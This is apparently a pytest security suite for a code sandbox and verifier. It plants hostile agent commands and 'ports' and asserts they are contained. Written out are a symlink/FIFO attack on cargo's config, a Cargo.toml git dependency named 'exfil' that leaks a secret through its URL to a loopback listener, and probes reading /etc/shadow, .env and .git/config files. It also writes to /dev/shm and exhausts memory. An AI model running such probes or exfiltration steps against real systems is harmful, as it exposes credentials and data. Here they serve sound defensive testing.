"""What a sandbox shows, lets reach and leaves behind.

Each test is a hostile agent command (``Sandbox.run``) or a hostile port the verifier drives,
in the sandboxes the case concerns (process and docker; docker is skipped without an engine):

* 6: an agent command turns the sandbox's cargo ``config.toml`` into a symlink to a root-only
  file, then into a FIFO: the host must neither write through the link nor block on the FIFO
  when it prepares the next command;
* 7: a port's ``Cargo.toml`` names a git dependency on a loopback listener: the host's fetch
  step must refuse it before cargo runs, and nothing may reach the listener;
* 8: a port reads the checkout's ``.git/config`` and an ``.env`` file in it;
* 10: a port reads ``/etc/shadow``, a file in the home folder and another job's scratch folder,
  leaves a file in ``/dev/shm``; a command touches more memory than the sandbox allows.
"""

from __future__ import annotations

import http.server
import os
import re
import shutil
import tempfile
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

import envforge
from envforge.sandbox.base import Sandbox, SandboxLimits
from envforge.sandbox.confine import probe
from envforge.sandbox.docker import docker_available
from envforge.sandbox.select import open_sandbox
from envforge.spec import spec_for_name
from envforge.verify.context import VerifyOptions
from envforge.verify.runner import verify
from envforge.verify.verdict import Report

ROOT = Path(__file__).resolve().parents[2]
PONG_PORT = ROOT / "generated/pong/jax/pong.py"
PONG_CRATE = ROOT / "generated/pong/rust"
DOCKER = pytest.mark.skipif(not docker_available(), reason="no docker engine")
KINDS = ["process", pytest.param("docker", marks=DOCKER)]
LIMITS = SandboxLimits(wall_s=30.0, output_chars=8000, memory_mb=512)


@pytest.fixture(scope="module", params=KINDS)
def sandbox(request: pytest.FixtureRequest) -> Sandbox:
    if request.param == "process" and not probe().read_only_mounts:
        pytest.skip("this kernel refuses mount namespaces")
    opened = open_sandbox(request.param, LIMITS)
    assert opened is not None
    return opened


def hostile_port(folder: Path, code: str) -> Path:
    """The pong JAX port with ``code`` run first when the sandboxed server imports it."""
    future = "from __future__ import annotations\n"
    source = PONG_PORT.read_text()
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "pong.py").write_text(source.replace(future, future + code.strip() + "\n"))
    return folder


def verify_quickly(kind: str, port: Path) -> Report:
    return verify(spec_for_name("pong"), port, [0], VerifyOptions(sandbox=kind, timeout_s=30))


def finding_text(report: Report) -> str:
    level = report.levels[0]
    assert level.status in ("fail", "error") and level.findings, level.summary
    return "\n".join(f.message + "\n" + f.detail for f in level.findings)


# ---- 6: links and FIFOs in the sandbox's writable cache ----------------------------------


def test_the_host_does_not_write_through_a_link_in_the_sandbox_cargo_home(
    sandbox: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before each command the host writes cargo's offline config into the sandbox's own cache,
    which the previous command could write: it must replace a link there, never follow it,
    and must not open a FIFO there (that blocked the next command for good)."""
    monkeypatch.setenv("ENVFORGE_RUST_CACHE", str(tmp_path / "cache" / "rust"))
    monkeypatch.delenv("ENVFORGE_RUST_VENDOR", raising=False)
    secret = tmp_path / "root-only.conf"
    secret.write_text("root's own settings\n")
    secret.chmod(0o600)
    ws = tmp_path / "ws"
    ws.mkdir()
    planted = sandbox.run(f'ln -sf {secret} "$CARGO_HOME/config.toml" && echo PLANTED', ws)
    assert "PLANTED" in planted.output, planted.output
    after = sandbox.run('cat "$CARGO_HOME/config.toml"', ws)
    assert secret.read_text() == "root's own settings\n"
    assert "envforge-vendored" in after.output, after.output  # a fresh config, not the secret

    fifo = sandbox.run('rm "$CARGO_HOME/config.toml" && mkfifo "$CARGO_HOME/config.toml"', ws)
    assert fifo.exit_code == 0, fifo.output
    results = []
    worker = threading.Thread(
        target=lambda: results.append(sandbox.run("echo NEXT", ws)), daemon=True
    )
    worker.start()
    worker.join(90)
    assert results, "the next command hung on the FIFO the last one left in the cargo home"
    assert "NEXT" in results[0].output, results[0].output


# ---- 7: git dependencies in the host's fetch step ----------------------------------------


class CountingServer:
    """An HTTP server on the host's loopback that counts the requests reaching it."""

    def __init__(self) -> None:
        requests: list[str] = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                requests.append(self.path)
                self.send_response(404)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.requests = requests
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def counting_server() -> Iterator[CountingServer]:
    server = CountingServer()
    yield server
    server.server.shutdown()
    server.server.server_close()


def crate_with_git_dependency(folder: Path, port: int) -> Path:
    """The pong Rust port, no lock file, with a target-specific git build-dependency whose URL
    carries data out (the host's cargo would ask the listener for it)."""
    shutil.copytree(PONG_CRATE, folder, ignore=shutil.ignore_patterns("target", "Cargo.lock"))
    manifest = folder / "Cargo.toml"
    manifest.write_text(
        manifest.read_text() + f"\n[target.'cfg(unix)'.build-dependencies]\n"
        f'exfil = {{ git = "http://127.0.0.1:{port}/the-secret-is-42.git" }}\n'
    )
    return folder


def test_the_host_fetch_step_follows_no_git_dependency(
    sandbox: Sandbox, tmp_path: Path, counting_server: CountingServer
) -> None:
    crate = crate_with_git_dependency(tmp_path / "port", counting_server.port)
    text = finding_text(verify_quickly(sandbox.kind, crate))
    assert "git dependency" in text and "exfil" in text, text
    ws = tmp_path / "ws"
    shutil.copytree(crate, ws / "port")
    sandbox.run("true", ws)  # an agent command: the host vendors the workspace's crates first
    assert counting_server.requests == []


def test_the_manifest_check_finds_every_way_out(tmp_path: Path) -> None:
    """Every table where cargo takes a dependency from elsewhere; the project's own ports and
    a path inside the crate pass."""
    from envforge.native.cargo_sources import foreign_sources

    head = '[package]\nname = "x"\nversion = "0.1.0"\n'
    cases = {
        "dependencies": '[dependencies]\na = { git = "http://h/a.git" }\n',
        "dev-dependencies": '[dev-dependencies]\na = { git = "http://h/a.git", branch = "x" }\n',
        "build-dependencies": '[build-dependencies]\na = { path = "../a" }\n',
        "target": "[target.'cfg(unix)'.dependencies]\na = { path = \"/etc\" }\n",
        "patch": '[patch.crates-io]\nrand = { git = "http://h/rand.git" }\n',
        "patch source": '[patch."http://h/x"]\nrand = "1"\n',
        "replace": '[replace]\n"rand:0.8.5" = { git = "http://h/rand.git" }\n',
        "registry": '[dependencies]\na = { version = "1", registry-index = "http://h/i" }\n',
        "workspace deps": '[workspace.dependencies]\na = { git = "http://h/a.git" }\n',
        "workspace members": '[workspace]\nmembers = ["../other"]\n',
    }
    for name, text in cases.items():
        crate = tmp_path / name.replace(" ", "_")
        crate.mkdir()
        (crate / "Cargo.toml").write_text(head + text)
        assert foreign_sources(crate), name
    locked = tmp_path / "locked"
    locked.mkdir()
    (locked / "Cargo.toml").write_text(head)
    (locked / "Cargo.lock").write_text(
        'version = 3\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "git+http://h/a.git#1"\n'
    )
    assert foreign_sources(locked)
    inside = tmp_path / "inside"
    (inside / "sub").mkdir(parents=True)
    (inside / "Cargo.toml").write_text(
        head + '[dependencies]\nsub = { path = "sub" }\nrand = "0.8"\n'
    )
    assert foreign_sources(inside) == []
    for manifest in sorted(ROOT.glob("generated/*/rust/Cargo.toml")):
        assert foreign_sources(manifest.parent) == [], manifest


# ---- 8 and 10: what a port can read and leave behind -------------------------------------

READER = """
import os as _os
_seen = []
for _path in {paths!r}:
    try:
        with open(_path, "rb") as _f:
            _seen.append(f"READ {{_path}}: {{_f.read(60)!r}}")
    except OSError as _e:
        _seen.append(f"HIDDEN {{_path}}: {{_e.strerror}}")
try:
    with open({shm!r}, "w") as _f:
        _f.write("left behind")
    _seen.append("WROTE {shm}")
except OSError as _e:
    _seen.append(f"NO SHM: {{_e.strerror}}")
raise RuntimeError("PROBE " + " | ".join(_seen))
"""


def outcomes(text: str) -> set[tuple[str, str]]:
    """(path, READ or HIDDEN) for each path the probe tried."""
    return {(path, seen) for seen, path in re.findall(r"\b(READ|HIDDEN) (/\S+):", text)}


def probe_port(tmp_path: Path, paths: list[str], shm: str) -> Path:
    return hostile_port(tmp_path / "port", READER.format(paths=paths, shm=shm))


def test_a_port_sees_nothing_of_the_checkout_but_envforge(sandbox: Sandbox, tmp_path: Path) -> None:
    """The docker sandbox mounted the whole checkout (envforge's parent folder): a port read
    the project's ``.env.local`` and ``.git/config``. Only envforge's package is shown now."""
    checkout = Path(envforge.__file__).resolve().parents[1]  # the one envforge runs from
    planted = checkout / f".env.probe-{uuid.uuid4().hex[:8]}"
    planted.write_text("API_TOKEN=checkout-secret\n")
    try:
        paths = [str(planted), str(checkout / "pyproject.toml")]
        paths += [str(p) for p in [checkout / ".git" / "config"] if p.exists()]
        port = probe_port(tmp_path, paths, os.devnull)
        text = finding_text(verify_quickly(sandbox.kind, port))
    finally:
        planted.unlink()
    assert outcomes(text) == {(path, "HIDDEN") for path in paths}, text
    assert "checkout-secret" not in text


def test_a_port_sees_little_of_the_host_and_leaves_nothing_in_dev_shm(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    """The process sandbox let a port read any file the host user could (``/etc/shadow``, other
    jobs' scratch folders, the home folder) and write into the host's ``/dev/shm``."""
    other_job = Path(tempfile.mkdtemp(prefix="envforge-other-job-"))
    (other_job / "result.json").write_text('{"other": "job"}')
    home_secret = Path.home() / f".probe-secret-{uuid.uuid4().hex[:8]}"
    home_secret.write_text("home-secret")
    shm = f"/dev/shm/envforge-probe-{uuid.uuid4().hex[:8]}"
    try:
        paths = ["/etc/shadow", str(other_job / "result.json"), str(home_secret)]
        text = finding_text(verify_quickly(sandbox.kind, probe_port(tmp_path, paths, shm)))
        left_behind = os.path.exists(shm)
    finally:
        shutil.rmtree(other_job)
        home_secret.unlink()
        if os.path.exists(shm):
            os.unlink(shm)
    assert outcomes(text) == {(path, "HIDDEN") for path in paths}, text
    assert not left_behind, "a file the port wrote to /dev/shm outlived it"


def test_a_command_gets_no_more_memory_than_the_limit(sandbox: Sandbox, tmp_path: Path) -> None:
    """Real memory, not address space: 1 GiB touched under a 512 MB limit (the process
    sandbox had only its 16 GiB address-space rlimit: an 8 GB allocation went through)."""
    ws = tmp_path / "ws"
    ws.mkdir()
    touch = "python3 -c \"b = b'x' * (1 << 30); print('TOUCHED', len(b))\""
    result = sandbox.run(touch, ws)
    assert "TOUCHED" not in result.output and result.exit_code != 0, result.output
    assert "out of memory" in result.output, result.output
